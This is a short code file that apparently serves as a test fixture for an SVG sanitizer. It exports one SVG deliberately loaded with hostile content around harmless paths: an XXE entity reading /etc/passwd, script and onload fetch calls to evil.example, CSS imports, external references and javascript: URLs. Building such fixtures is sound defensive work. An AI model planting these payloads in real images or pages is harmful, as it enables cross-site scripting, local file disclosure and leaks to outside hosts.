/** An SVG with everything that must never reach a page or a canvas, around one harmless path. */
export const HOSTILE_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY boom "boom"><!ENTITY file SYSTEM "file:///etc/passwd">]>
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 2048 2048" width="1024" height="1024" onload="fetch('https://evil.example/load')">
<script>fetch('https://evil.example/script')</script>
<style>@import url('https://evil.example/style.css'); path { fill: url('https://evil.example/fill') }</style>
<path transform="translate(0,0)" fill="rgb(252,252,251)" d="M 0 0 L 2048 0 L 2048 2048 L 0 2048 L 0 0 z"/>
<path transform="translate(0,0)" fill="rgb(15,102,228)" onclick="alert(1)" d="M 512 512 L 1536 512 L 1536 1536 L 512 1536 z"/>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject>
<image href="https://evil.example/pixel.png" width="10" height="10"/>
<use xlink:href="https://evil.example/sprite.svg#a"/>
<a href="javascript:alert(1)"><text>&boom;&file;</text></a>
<animate attributeName="href" to="javascript:alert(1)"/>
<path fill="url(https://evil.example/paint.svg#p)" d="M 0 0 L 10 0 L 10 10 z"/>
</svg>
`;
